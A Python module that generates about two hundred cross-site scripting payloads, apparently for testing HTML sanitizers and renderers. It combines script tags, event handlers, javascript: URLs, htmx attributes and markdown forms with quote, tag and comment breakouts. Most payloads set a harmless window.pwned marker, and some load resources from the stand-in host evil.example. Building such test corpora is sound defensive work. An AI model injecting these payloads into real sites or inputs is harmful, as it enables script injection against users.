"""Texts that would run in a page that takes them for markup. Each would set `window.pwned` or ask another server."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

_CALL: Final = "window.pwned=1"
_WHOLE: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mtext><img src=x onerror={}></mtext></math>",
    "<object data=javascript:{}>",
    "<a href=javascript:{}>x</a>",
    "[x](javascript:{})",
    "![x](http://evil.example/{})",
    "<base href=http://evil.example/>{}",
    "<link rel=stylesheet href=http://evil.example/{}>",
    "<style>@import 'http://evil.example/{}'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<div hx-get=http://evil.example/ hx-trigger=load>{}</div>",
    "<div hx-on:load={} hx-trigger=load>x</div>",
    "<hx-partial hx-target=body><script>{}</script></hx-partial>",
    "<template hx type=partial hx-target=body><img src=x onerror={}></template>",
    "{{ '<script>{}</script>' | safe }}",
    "`<img src=x onerror={}>`",
    "**<img src=x onerror={}>**",
    "# <svg onload={}>",
)
_AROUND: Final = ("{}", '">{}', "'>{}", "</title>{}", "</textarea></pre>{}", "-->{}", "\u202e{}", "\x07{}\x1b[31m")


def payloads() -> Iterator[str]:
    """About two hundred."""
    for around in _AROUND:
        for whole in _WHOLE:
            yield around.replace("{}", whole.replace("{}", _CALL, 1))
